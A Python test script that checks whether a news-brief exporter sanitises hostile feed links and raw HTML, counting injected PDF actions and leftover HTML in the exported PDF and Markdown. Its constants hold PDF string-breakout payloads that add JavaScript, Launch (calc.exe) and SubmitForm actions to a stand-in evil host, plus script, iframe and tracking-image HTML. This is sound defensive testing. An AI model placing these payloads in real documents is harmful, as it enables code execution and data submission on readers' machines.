"""Hostile links and HTML in exported briefs (issue #13): what a PDF, or the Markdown of an
introduction, carries out of a feed's link or the analyst's raw HTML.

One brief is exported whose article link, note and introduction hold links written to break
out of the PDF's ``/URI (…)`` string (``)/S/JavaScript/JS(…``, ``/Launch``, ``/SubmitForm``)
and an introduction with raw HTML (script, iframe, a remote image). The PDF is read back with
pypdf: link actions that are not plain ``/URI``, and script, launch or form names anywhere in
its objects. The Markdown is read with a CommonMark parser that allows raw HTML. Baselines
were measured on the code before the fix with this same brief.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

from _table import Report, Row, ok

ROOT = Path(__file__).resolve().parent.parent

#: Links of a hostile feed or note: each tries to close the PDF string and add an action.
LINKS = (
    "http://host.example/x)/S/JavaScript/JS(app.alert(1)",
    "http://host.example/y)>>/A<</S/Launch/F(calc.exe",
    "https://host.example/z)/S/SubmitForm/F(http://evil.example/",
)
INTRODUCTION = (
    "Voir [la note](<{0}>) et [la source](<{1}>).\n\n"
    "<script>alert(1)</script>\n\n"
    '<iframe src="https://evil.example/"></iframe> <img src="http://track.example/p.gif">\n'
)
#: Measured with this brief on the code before the fix (commit 841efc2).
BEFORE = {"js": 3, "other": 7, "names": 1, "md": 2}


def _measure_here() -> dict[str, int]:
    """Export the hostile brief and count what got through (run in a child process)."""
    from markdown_it import MarkdownIt
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    from reader.core.briefs import Brief, BriefItem, BriefSection
    from reader.export.markdown import markdown_bytes
    from reader.export.pdf import pdf_bytes
    from tests.factories import T0

    items = tuple(BriefItem(n, f"Article {n}", link, "Source") for n, link in enumerate(LINKS))
    brief = Brief(
        title="Revue",
        introduction=INTRODUCTION.format(LINKS[1], LINKS[2]),
        sections=(BriefSection("Section", items),),
    )
    reader = PdfReader(io.BytesIO(pdf_bytes(brief, [], now=T0)))
    actions = [
        annot.get_object()["/A"].get_object()
        for page in reader.pages
        for annot in page.get("/Annots", []) or []
        if "/A" in annot.get_object()
    ]

    def names(value: object) -> set[str]:
        if isinstance(value, NameObject):
            return {str(value)}
        if isinstance(value, DictionaryObject):
            return {str(k) for k in value} | set().union(*(names(v) for v in value.values()))
        if isinstance(value, ArrayObject):
            return set().union(*(names(v) for v in value))
        return set()

    found: set[str] = set()
    for number in range(1, int(reader.trailer["/Size"])):
        try:
            found |= names(reader.get_object(number))
        except (KeyError, ValueError):
            continue
    markdown = markdown_bytes(brief, [], now=T0).decode("utf-8")
    intro = markdown.split("## Contents", 1)[0]
    raw = 0
    for token in MarkdownIt("commonmark", {"html": True}).parse(intro):
        raw += token.type == "html_block"
        raw += sum(child.type == "html_inline" for child in token.children or ())
    return {
        "js": sum("/JS" in a or a.get("/S") == "/JavaScript" for a in actions),
        "other": sum(a.get("/S") != "/URI" or len(a) > 3 for a in actions),
        "names": len(found & {"/JavaScript", "/JS", "/Launch", "/SubmitForm"}),
        "md": raw,
    }


def measure(folder: Path, quick: bool) -> Report:
    del folder, quick  # one small brief either way
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, __file__],
        capture_output=True, text=True, env=env, cwd=ROOT, check=False, timeout=300,
    )  # fmt: skip
    report = Report()
    if done.returncode != 0:
        report.misses.append(f"pdf: the hostile export failed: {done.stderr.strip()[-300:]}")
        return report
    after = dict(line.split("=") for line in done.stdout.split())
    labels = (
        ("js", "hostile link: JavaScript actions in PDF"),
        ("other", "hostile link: link actions not a plain /URI"),
        ("names", "hostile link: /JS, /Launch, /SubmitForm names in PDF"),
        ("md", "hostile introduction: raw HTML left in Markdown"),
    )
    for key, label in labels:
        count = int(after[key])
        row: Row = (label, str(count), str(BEFORE[key]), "", "0", ok(count == 0))
        report.rows.append(row)
        if count:
            report.misses.append(f"{label}: {count} (must be 0)")
    return report


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    for name, value in _measure_here().items():
        print(f"{name}={value}")
